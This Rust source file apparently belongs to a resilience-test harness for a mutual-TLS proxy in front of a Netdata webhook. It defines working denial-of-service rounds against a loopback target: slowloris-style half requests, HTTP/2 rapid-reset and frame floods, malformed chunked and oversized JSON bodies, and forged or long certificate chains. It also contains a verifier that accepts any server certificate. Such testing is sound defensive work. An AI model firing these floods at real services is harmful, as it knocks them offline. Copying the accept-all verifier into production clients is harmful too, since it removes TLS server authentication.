//! The attacks. Each is one round, which is repeated until the end.

use crate::Failure;
use crate::certificates::Certificates;
use crate::client::{Client, Connection};
use crate::frames::{self, frame, post};
use futures_util::future::join_all;
use rcgen::{
    BasicConstraints, CertificateParams, DistinguishedName, DnType, IsCa, Issuer, KeyPair,
    KeyUsagePurpose,
};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::aws_lc_rs;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName, UnixTime};
use rustls::sign::{CertifiedKey, SingleCertAndKey};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use std::future::Future;
use std::net::{Ipv4Addr, SocketAddr};
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinHandle;
use tokio::time::{sleep, timeout};

/// What is attacked, and all the certificates that play a part.
pub(crate) struct Target {
    address: SocketAddr,
    trusted: Arc<ClientConfig>,
    trusted_http2: Arc<ClientConfig>,
    strangers: Vec<Arc<ClientConfig>>,
    long_chain: Arc<ClientConfig>,
}

/// One way to do harm.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    round: fn(Attacker) -> Round,
}

type Round = Pin<Box<dyn Future<Output = Result<(), Failure>> + Send>>;

/// One side of one attack, with an address of its own.
#[derive(Clone)]
struct Attacker {
    target: Arc<Target>,
    source: Ipv4Addr,
}

macro_rules! attacks {
    ($($name:ident)*) => {
        /// Every attack.
        pub(crate) const ALL: &[Attack] =
            &[$(Attack { name: stringify!($name), round: |attacker| Box::pin($name(attacker)) }),*];
    };
}

attacks! {
    silent half_handshake half_head half_body garbage strangers long_chain rapid_reset reset_posts settings_flood
    ping_flood priority_flood window_flood connection_tokens endless_answer hostile_bodies odd_chunks unread_answers
    knocks
}

impl Attack {
    /// Repeats it until `stop`, and says how often it was done.
    pub(crate) fn launch(
        &self,
        index: usize,
        target: &Arc<Target>,
        stop: &Arc<AtomicBool>,
    ) -> JoinHandle<String> {
        let last = u8::try_from(index + 2).expect("there are not that many attacks");
        let attacker = Attacker {
            target: target.clone(),
            source: Ipv4Addr::new(127, 0, 1, last),
        };
        let (round, stop) = (self.round, stop.clone());
        tokio::spawn(async move {
            let (mut rounds, mut cut) = (0, 0);
            while !stop.load(Ordering::SeqCst) {
                rounds += 1;
                cut += u32::from(round(attacker.clone()).await.is_err());
                sleep(Duration::from_millis(100)).await;
            }
            format!("{rounds} rounds, {cut} of them cut short")
        })
    }
}

impl Target {
    pub(crate) fn new(address: SocketAddr, certificates: &Certificates) -> Result<Self, Failure> {
        let chain = vec![CertificateDer::from_pem_file(certificates.path("rsa.pem"))?];
        let key = PrivateKeyDer::from_pem_file(certificates.path("rsa.key"))?;
        let own = |alpn: &[u8]| with_certificate(chain.clone(), key.clone_key(), alpn);
        let strangers = [
            stranger("app.netdata.cloud", 0)?,
            stranger("x", 100_000)?,
            Arc::new(anonymous()),
        ];
        Ok(Self {
            address,
            trusted: own(b"http/1.1")?,
            trusted_http2: own(b"h2")?,
            strangers: strangers.into(),
            long_chain: with_long_chain()?,
        })
    }

    /// A well-behaved client over HTTP/1.1.
    pub(crate) fn first(&self) -> Client {
        Client {
            source: Ipv4Addr::LOCALHOST,
            address: self.address,
            config: self.trusted.clone(),
        }
    }

    /// One over HTTP/2.
    pub(crate) fn http2(&self) -> Client {
        Client {
            config: self.trusted_http2.clone(),
            ..self.first()
        }
    }
}

impl Attacker {
    fn client(&self, config: &Arc<ClientConfig>) -> Client {
        Client {
            source: self.source,
            address: self.target.address,
            config: config.clone(),
        }
    }

    fn trusted(&self) -> Client {
        self.client(&self.target.trusted)
    }

    async fn connect(&self) -> Result<Connection, Failure> {
        self.trusted().connect().await
    }

    /// Sends frames over HTTP/2, and reads until the proxy closes or nothing more comes for a
    /// second.
    async fn flood(&self, frames: Vec<u8>) -> Result<(), Failure> {
        let stream = self.client(&self.target.trusted_http2).tls().await?;
        let (mut reader, mut writer) = tokio::io::split(stream);
        let read = async {
            let mut buffer = vec![0; 65536];
            while let Ok(Ok(1..)) = timeout(Duration::from_secs(1), reader.read(&mut buffer)).await
            {
            }
        };
        let write = async {
            // It may be cut off.
            let _ = writer.write_all(&frames).await;
            let _ = writer.flush().await;
        };
        timeout(
            Duration::from_secs(20),
            futures_util::future::join(read, write),
        )
        .await?;
        Ok(())
    }

    /// Holds what `begin` opens, many times at once, for a while.
    async fn hold(
        &self,
        count: usize,
        length: Duration,
        bytes: &'static [u8],
    ) -> Result<(), Failure> {
        let opening = (0..count).map(|_| async {
            let mut connection = self.connect().await.ok()?;
            connection.stream.write_all(bytes).await.ok()?;
            connection.stream.flush().await.ok()?;
            Some(connection)
        });
        let held = join_all(opening).await;
        sleep(length).await;
        drop(held);
        Ok(())
    }
}

/// TCP connections that never say anything.
async fn silent(attacker: Attacker) -> Result<(), Failure> {
    let client = attacker.trusted();
    let held = join_all((0..500).map(|_| client.tcp())).await;
    sleep(Duration::from_secs(7)).await;
    drop(held);
    Ok(())
}

/// The beginning of a ClientHello.
async fn half_handshake(attacker: Attacker) -> Result<(), Failure> {
    let mut held = Vec::new();
    for _ in 0..100 {
        let mut stream = attacker.trusted().tcp().await?;
        stream.write_all(&[22, 3, 1, 2, 0, 1, 0]).await?;
        held.push(stream);
    }
    sleep(Duration::from_secs(7)).await;
    Ok(())
}

async fn half_head(attacker: Attacker) -> Result<(), Failure> {
    attacker
        .hold(
            50,
            Duration::from_secs(7),
            b"POST /webhooks/netdata HTTP/1.1\r\nHost: loc",
        )
        .await
}

async fn half_body(attacker: Attacker) -> Result<(), Failure> {
    let half = b"POST /webhooks/netdata HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n{\"alert\":";
    attacker.hold(50, Duration::from_secs(12), half).await
}

/// What is no TLS, and what is no HTTP.
async fn garbage(attacker: Attacker) -> Result<(), Failure> {
    for bytes in [
        b"GET / HTTP/1.1\r\n\r\n".as_slice(),
        &[0xff; 4096],
        b"\x16\x03\x01\xff\xff",
    ] {
        attacker.trusted().tcp().await?.write_all(bytes).await?;
    }
    let _ = attacker.connect().await?.exchange(&[b'\0'; 4096]).await;
    Ok(())
}

/// Clients without a certificate, with that of another authority, and with one whose subject is
/// very long.
async fn strangers(attacker: Attacker) -> Result<(), Failure> {
    for config in &attacker.target.strangers {
        // Refused in the handshake, or with 403.
        let _ = attacker
            .client(config)
            .get("/webhooks/netdata?crc_token=x")
            .await;
    }
    Ok(())
}

/// A chain of intermediates of one name, each of which may have issued each.
async fn long_chain(attacker: Attacker) -> Result<(), Failure> {
    let client = attacker.client(&attacker.target.long_chain);
    let mut connection = client.connect().await?;
    for _ in 0..50 {
        connection
            .exchange(b"GET /webhooks/netdata?crc_token=x HTTP/1.1\r\nHost: localhost\r\n\r\n")
            .await?;
    }
    Ok(())
}

/// Streams that are reset as soon as they are opened.
async fn rapid_reset(attacker: Attacker) -> Result<(), Failure> {
    let mut bytes = frames::preface();
    for number in 0..2000 {
        bytes.extend(post(2 * number + 1));
        bytes.extend(frame(
            frames::RST_STREAM,
            0,
            2 * number + 1,
            &8_u32.to_be_bytes(),
        ));
    }
    attacker.flood(bytes).await
}

/// Whole POSTs, reset while the application works on them.
async fn reset_posts(attacker: Attacker) -> Result<(), Failure> {
    let mut stream = attacker
        .client(&attacker.target.trusted_http2)
        .tls()
        .await?;
    stream.write_all(&frames::preface()).await?;
    for batch in 0..20 {
        let streams = (90 * batch..90 * (batch + 1)).map(|number| 2 * number + 1);
        let mut bytes = Vec::new();
        for id in streams.clone() {
            bytes.extend(post(id));
            bytes.extend(frame(frames::DATA, 1, id, b"{\"alert\":\"reset\"}"));
        }
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        sleep(Duration::from_millis(5)).await;
        let resets: Vec<u8> = streams
            .flat_map(|id| frame(frames::RST_STREAM, 0, id, &8_u32.to_be_bytes()))
            .collect();
        stream.write_all(&resets).await?;
        stream.flush().await?;
    }
    Ok(())
}

async fn settings_flood(attacker: Attacker) -> Result<(), Failure> {
    let flood = frame(frames::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(20_000);
    attacker.flood([frames::preface(), flood].concat()).await
}

async fn ping_flood(attacker: Attacker) -> Result<(), Failure> {
    attacker
        .flood(
            [
                frames::preface(),
                frame(frames::PING, 0, 0, &[0; 8]).repeat(20_000),
            ]
            .concat(),
        )
        .await
}

async fn priority_flood(attacker: Attacker) -> Result<(), Failure> {
    attacker
        .flood(
            [
                frames::preface(),
                frame(frames::PRIORITY, 0, 3, &[0, 0, 0, 0, 1]).repeat(20_000),
            ]
            .concat(),
        )
        .await
}

async fn window_flood(attacker: Attacker) -> Result<(), Failure> {
    let flood = frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(20_000);
    attacker.flood([frames::preface(), flood].concat()).await
}

/// As many options as a head can hold.
async fn connection_tokens(attacker: Attacker) -> Result<(), Failure> {
    let tokens = "a,".repeat(14_000);
    let request =
        format!("GET /app/x HTTP/1.1\r\nHost: localhost\r\nConnection: {tokens}b\r\n\r\n");
    let mut connection = attacker.connect().await?;
    for _ in 0..50 {
        connection.exchange(request.as_bytes()).await?;
    }
    Ok(())
}

/// Answers that take an hour, whose client leaves after a second.
async fn endless_answer(attacker: Attacker) -> Result<(), Failure> {
    let request = b"GET /app/endless HTTP/1.1\r\nHost: localhost\r\n\r\n";
    attacker.hold(20, Duration::from_secs(1), request).await
}

async fn hostile_bodies(attacker: Attacker) -> Result<(), Failure> {
    let deep = "[".repeat(500_000);
    let long = format!("{{\"alert\":\"{}\"", "x".repeat(900_000));
    let names: String = (0..20_000)
        .map(|number| format!("\"{number}\":0,"))
        .collect();
    for body in [
        deep,
        long,
        format!("{{{names}\"0\":0}}"),
        "{\"alert\":1e999999999}".into(),
        "\0".repeat(1000),
    ] {
        let length = body.len();
        let head = format!(
            "POST /webhooks/netdata HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n\r\n"
        );
        // The answer may come before the whole body has been taken.
        let _ = attacker
            .connect()
            .await?
            .exchange((head + &body).as_bytes())
            .await;
    }
    Ok(())
}

async fn odd_chunks(attacker: Attacker) -> Result<(), Failure> {
    for chunks in [
        "\r\n\r\n",
        "1;a=\n\r\nx\r\n0\r\n\r\n",
        "0\r\nno colon\r\n\r\n",
        "ffffffffffffffff1\r\n",
        "-1\r\n\r\n",
    ] {
        let head = "POST /webhooks/netdata HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n";
        let _ = attacker
            .connect()
            .await?
            .exchange(format!("{head}{chunks}").as_bytes())
            .await;
    }
    Ok(())
}

/// Pipelined requests whose answers are never read.
async fn unread_answers(attacker: Attacker) -> Result<(), Failure> {
    let request =
        b"GET /webhooks/netdata?crc_token=x HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(2000);
    let mut connection = attacker.connect().await?;
    timeout(
        Duration::from_secs(5),
        connection.stream.write_all(&request),
    )
    .await??;
    Ok(())
}

/// Connect and close, as balancers check.
async fn knocks(attacker: Attacker) -> Result<(), Failure> {
    for _ in 0..50 {
        drop(attacker.trusted().tcp().await?);
    }
    Ok(())
}

fn anonymous() -> ClientConfig {
    builder().with_no_client_auth()
}

fn builder() -> rustls::ConfigBuilder<ClientConfig, rustls::client::WantsClientCert> {
    ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("the provider has suites for both versions")
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AnyServer))
}

fn with_certificate(
    chain: Vec<CertificateDer<'static>>,
    key: PrivateKeyDer<'static>,
    alpn: &[u8],
) -> Result<Arc<ClientConfig>, Failure> {
    // rustls does not present what it cannot read, so it is not asked.
    let certified = CertifiedKey::new(chain, aws_lc_rs::sign::any_supported_type(&key)?);
    let mut config =
        builder().with_client_cert_resolver(Arc::new(SingleCertAndKey::from(certified)));
    config.resumption = rustls::client::Resumption::disabled();
    config.alpn_protocols = vec![alpn.to_vec()];
    Ok(Arc::new(config))
}

/// A certificate of no authority, with so much more in its subject.
fn stranger(name: &str, padding: usize) -> Result<Arc<ClientConfig>, Failure> {
    let key = KeyPair::generate()?;
    let mut params = CertificateParams::default();
    params.distinguished_name = named(name);
    if padding > 0 {
        params
            .distinguished_name
            .push(DnType::OrganizationName, "x".repeat(padding));
    }
    let certificate = params.self_signed(&key)?;
    let key = PrivateKeyDer::try_from(key.serialize_der())?;
    with_certificate(vec![certificate.der().clone()], key, b"http/1.1")
}

/// Intermediates of one name with different keys: path building tries each with each.
/// There are as many as are let through the handshake.
fn with_long_chain() -> Result<Arc<ClientConfig>, Failure> {
    let mut params = CertificateParams::default();
    params.distinguished_name = named("Netdata Intermediate");
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![KeyUsagePurpose::KeyCertSign];
    let mut issuer = KeyPair::generate()?;
    let mut chain = Vec::new();
    for _ in 0..9 {
        let key = KeyPair::generate()?;
        let by = Issuer::from_params(&params, &issuer);
        chain.push(params.signed_by(&key, &by)?.der().clone());
        issuer = key;
    }
    let key = KeyPair::generate()?;
    let mut leaf = CertificateParams::default();
    leaf.distinguished_name = named("app.netdata.cloud");
    let certificate = leaf.signed_by(&key, &Issuer::from_params(&params, &issuer))?;
    chain.insert(0, certificate.der().clone());
    with_certificate(
        chain,
        PrivateKeyDer::try_from(key.serialize_der())?,
        b"http/1.1",
    )
}

fn named(name: &str) -> DistinguishedName {
    let mut distinguished = DistinguishedName::new();
    distinguished.push(DnType::CommonName, name);
    distinguished
}

/// The attacks are about clients.
#[derive(Debug)]
struct AnyServer;

impl ServerCertVerifier for AnyServer {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        aws_lc_rs::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
